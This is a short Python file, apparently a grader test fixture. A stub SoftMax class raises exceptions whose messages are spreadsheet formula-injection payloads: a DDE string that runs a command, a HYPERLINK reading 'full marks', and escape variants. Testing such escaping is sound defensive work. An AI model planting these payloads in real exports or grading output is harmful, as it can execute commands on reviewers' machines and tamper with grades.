"""[confusing] raises errors that a spreadsheet would take for formulas.

status: graded
hint: stopped with
"""


class SoftMax:
    def forward(self, Z):
        raise ValueError('=HYPERLINK("http://example.org", "full marks")')

    def backward(self, Y, dY):
        raise type("=cmd|' /C calc'!A0", (Exception,), {})("\t@SUM(1) \uff1d1 +1 -1")
